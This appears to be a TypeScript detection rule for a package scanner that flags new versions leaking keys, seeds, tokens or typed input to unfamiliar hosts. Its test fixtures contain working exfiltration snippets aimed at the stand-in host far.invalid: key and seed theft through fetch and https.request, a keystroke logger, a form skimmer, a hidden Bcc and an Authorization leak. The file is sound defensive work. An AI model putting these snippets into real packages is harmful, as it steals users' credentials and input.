/**
 * A wallet's key, a seed or a password is given to a library to sign or decrypt with. A few characters in a function that
 * users call all day are enough to send it away as well: the call works as ever, and nobody looks at the network.
 */
import type { Behavior } from '../../src/model/behavior.ts';
import type { Evidence } from '../../src/model/finding.ts';
import { holdsAddress } from '../../src/model/holds-address.ts';
import { isOfPage } from '../../src/model/telling-places.ts';
import type { Rule } from '../../src/rule.ts';
import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';

export const secretSent: Rule = defineRule({
  id: 'secret-sent',
  family: 'code',
  title: 'A key or password is sent to a host that it was not sent to before',
  rationale: 'Whoever has the key owns what it opens, and cannot be stopped afterwards.',
  remedy: 'Stay on the old version. Replace every key that this version has handled.',
  level: 'block',
  incidents: [
    {
      what: '@solana/web3.js 1.95.6 and 1.95.7: private keys sent in a header from the functions that make key pairs',
      when: '2024-12-02',
      url: 'https://github.com/advisories/GHSA-jcxm-7wvp-g6p5',
    },
    {
      what: 'xrpl 4.2.1: the seed of each wallet sent when the wallet is made',
      when: '2025-04-21',
      url: 'https://xrpl.org/blog/2025/vulnerabilitydisclosurereport-bug-apr2025',
    },
  ],
  appliesToAdditions: true,
  needs: ['behaviors', 'files'],
  kinds: {
    typed: {
      level: 'block',
      about:
        'What people type into a page is sent as soon as the page loads the package, which never sent anything before.',
    },
    copied: {
      level: 'review',
      about: 'Mails get a receiver that the code itself names, and that the others do not see.',
    },
    'input-sent': {
      level: 'review',
      about: 'What users give to a function is sent to a host, by a package that did not talk to the network before.',
    },
    'service-token': {
      level: 'review',
      about: 'It is called a token or API key, and the package talked to the network before.',
    },
    'same-host': {
      level: 'notice',
      about: 'A token or API key goes to a host of which the old version held the address.',
    },
    'of-addition': {
      level: 'notice',
      about: 'A package that is new as a whole sends a token, or what a function is given, as clients of a service do.',
    },
  },
  flags: [
    {
      title: 'a copy of each mail for an address that stands in the code',
      before: { 'index.js': `exports.send = (mail, client) => client.send({ to: mail.to, text: mail.text });\n` },
      after: {
        'index.js': `exports.send = (mail, client) => client.send({ to: mail.to, text: mail.text, Bcc: ['me', 'far.invalid'].join('@') });\n`,
      },
      expect: [
        {
          kind: 'copied',
          message: 'A copy of every mail goes to me@far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'send()'],
        },
      ],
    },
    {
      title: 'a private key in a header, encoded, and a seed in the body of a request',
      before: { 'index.js': '' },
      after: {
        'index.js': `exports.fromSecretKey = function (secretKey) {
  const id = Buffer.from(secretKey).toString('base64');
  fetch('https://far.invalid/v1', { headers: { 'x-session': id } }).catch(() => {});
};
class Wallet {
  constructor(seed) { this.seed = seed; require('https').request({ host: 'far.invalid' }).end(this.seed); }
}
exports.Wallet = Wallet;
`,
      },
      expect: [
        {
          message: 'fetch sends secretKey to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js', 'fromSecretKey()'],
        },
        {
          message: 'https.request().end sends seed to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 6 },
          via: ['main', 'index.js', 'constructor()'],
        },
      ],
    },
    {
      title: 'the token of a client, sent to another host than before',
      before: { 'index.js': `exports.ask = (token) => fetch('https://api.invalid/', { headers: { token } });\n` },
      after: {
        'index.js': `exports.ask = (token) => {\n  fetch('https://far.invalid/' + token);\n  return fetch('https://api.invalid/', { headers: { token } });\n};\n`,
      },
      expect: [
        {
          kind: 'service-token',
          message: 'fetch sends token to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js', 'ask()'],
        },
      ],
    },
    {
      title: 'the token of a client, sent by other means to the host that it is for',
      before: {
        'index.js': `exports.ask = (apiKey) => jsonp('https://api.invalid/v1?key=' + apiKey);\nexports.up = () => fetch('https://up.invalid/');\n`,
      },
      after: {
        'index.js': `exports.ask = (apiKey) => fetch('https://api.invalid/v1?key=' + apiKey);\nexports.up = () => fetch('https://up.invalid/');\n`,
      },
      expect: [
        {
          kind: 'same-host',
          message: 'fetch sends apiKey to api.invalid',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'ask()'],
        },
      ],
    },
    {
      title: 'the token of a client that is new as a whole',
      after: {
        'index.js': `exports.ask = (token) => fetch('https://api.invalid/', { headers: { token } });\n`,
      },
      expect: [
        {
          kind: 'of-addition',
          message: 'fetch sends token to api.invalid',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'ask()'],
        },
      ],
    },
    {
      title: 'what a function is given, by a package that never sent anything',
      before: { 'index.js': 'exports.parse = (a) => a.trim();\n' },
      after: { 'index.js': `exports.parse = (a) => { fetch('https://far.invalid/?' + a); return a.trim(); };\n` },
      expect: [
        {
          kind: 'input-sent',
          message: 'fetch sends what it is given as a to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'parse()'],
        },
      ],
    },
    {
      title: 'what is typed into a page, and what its forms hold, by a package that never sent anything',
      before: { 'index.js': 'exports.open = () => document.createElement("div");\n' },
      after: {
        'index.js': `exports.open = () => document.createElement("div");
document.addEventListener('keydown', (event) => navigator.sendBeacon('https://far.invalid/k', event.target.value));
setInterval(() => {
  const request = new XMLHttpRequest();
  request.open('POST', 'https://far.invalid/f');
  request.send(new FormData(document.querySelector('form')));
}, 5000);
`,
      },
      expect: [
        {
          kind: 'typed',
          message: 'navigator.sendBeacon sends what it is given as keydown event to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js', '(anonymous function)'],
        },
        {
          kind: 'typed',
          message: 'XMLHttpRequest().send sends what it is given as FormData to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 6 },
          via: ['main', 'index.js', '(anonymous function)'],
        },
      ],
    },
    {
      title: 'the header that a client logs in with, for another host',
      before: { 'index.js': `exports.ask = (config) => fetch('https://api.invalid/', config);\n` },
      after: {
        'index.js': `exports.ask = (config) => {\n  new Image().src = 'https://far.invalid/?' + config.headers.Authorization;\n  return fetch('https://api.invalid/', config);\n};\n`,
      },
      expect: [
        {
          kind: 'service-token',
          message: 'Image().src = sends Authorization to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js', 'ask()'],
        },
      ],
    },
  ],
  passes: [
    {
      title: 'copies of mails for whom the caller names',
      before: { 'index.js': '' },
      after: {
        'index.js': `exports.send = (mail, client, options) => client.send({ to: mail.to, cc: 'team', bcc: options.bcc, Bcc: process.env.BCC });\n`,
      },
    },
    {
      title: 'what is typed into a page is checked, searched for beside it, and sent where the page says',
      before: { 'index.js': 'exports.open = () => document.createElement("div");\n' },
      after: {
        'index.js': `exports.open = () => document.createElement("div");
document.addEventListener('keydown', (event) => { if (event.key === 'Escape') exports.close(); });
document.addEventListener('input', (event) => fetch('/search?q=' + event.target.value));
document.addEventListener('submit', (event) => fetch(event.target.action, { body: new FormData(event.target) }));
`,
      },
    },
    {
      title: 'the same host as before by other means, a signature, a check, and a host that the caller names',
      before: {
        'index.js': `exports.login = (password) => fetch('https://api.invalid/login', { method: 'POST', body: password });\n`,
      },
      after: {
        'index.js': `
const { createHmac } = require('crypto');
exports.login = async (password, body) => {
  const request = require('https').request({ hostname: 'api.invalid', path: '/v2/login' });
  request.end(JSON.stringify({ password, body }));
};
exports.sign = (secretKey, message) => {
  const signature = createHmac('sha256', secretKey).update(message).digest('hex');
  return fetch('https://log.invalid/', { method: 'POST', body: JSON.stringify({ message, signature }) });
};
exports.ask = (url, token) => fetch(url, { headers: { authorization: 'Bearer ' + token } });
exports.next = (pageToken) => fetch('https://list.invalid/?page=' + pageToken);
exports.load = (apiKey) => fetch('engine.wasm', { headers: { apiKey } });
`,
      },
    },
  ],
  check({ behaviors, files, subject }) {
    const isNewToNetwork = !behaviors.knownKinds.has('network');
    const isAddition = subject.from === undefined;
    return behaviors.added.flatMap((behavior): Evidence<Kind>[] => {
      const { kind, api, tier, carries = [] } = behavior;
      const host = hostOf(behavior);
      if (kind !== 'disclosure' || tier === 'unreached' || host === undefined) return [];
      if (api === 'bcc')
        return [evidenceOf(behavior, `A copy of every mail goes to ${shorten(behavior.detail ?? host)}`, 'copied')];
      const isClient = isAddition && tier === 'call';
      const secrets = carries.filter(({ sort }) => sort === 'key' || sort === 'token');
      if (secrets.length > 0) {
        const message = `${api} sends ${secrets.map(({ name }) => shorten(name)).join(', ')} to ${shorten(host)}`;
        if (secrets.some(({ sort }) => sort === 'key')) return [evidenceOf(behavior, message)];
        if (isClient) return [evidenceOf(behavior, message, 'of-addition')];
        if (isNewToNetwork) return [evidenceOf(behavior, message)];
        return [evidenceOf(behavior, message, holdsAddress(files.before, host) ? 'same-host' : 'service-token')];
      }
      const [input] = carries.filter(({ sort }) => sort === 'input');
      if (input === undefined || !isNewToNetwork) return [];
      const message = `${api} sends what it is given as ${shorten(input.name)} to ${shorten(host)}`;
      if (tier === 'call') return [evidenceOf(behavior, message, isClient ? 'of-addition' : 'input-sent')];
      return isTyped(input.name) ? [evidenceOf(behavior, message, isAddition ? 'of-addition' : 'typed')] : [];
    });
  },
});

/** Fields and forms of the page, and events that tell what somebody does there. */
function isTyped(name: string): boolean {
  return /^(?:document\.|FormData(?:\(|$))| event$/.test(name);
}

type Kind = 'copied' | 'typed' | 'service-token' | 'same-host' | 'input-sent' | 'of-addition';

/** Undefined where the text does not tell it: then it is the caller's. The own machine is no stranger. */
function hostOf({ api, detail }: Behavior): string | undefined {
  if (isOfPage(api, detail)) return undefined;
  const host = /^(?:[a-z][a-z+.-]*:)?(?:\/\/)?(?:[^/@\s]*@)?(\[[^\]]*\]|[^/:?#\s]+)/i
    .exec(detail ?? '')?.[1]
    ?.toLowerCase();
  if (host === undefined || host.includes('…') || /^[$<]/.test(host)) return undefined;
  return /^(?:localhost|127\.0\.0\.1|\[::1\])$/.test(host) || !/\w[.:]|^\[/.test(host) ? undefined : host;
}
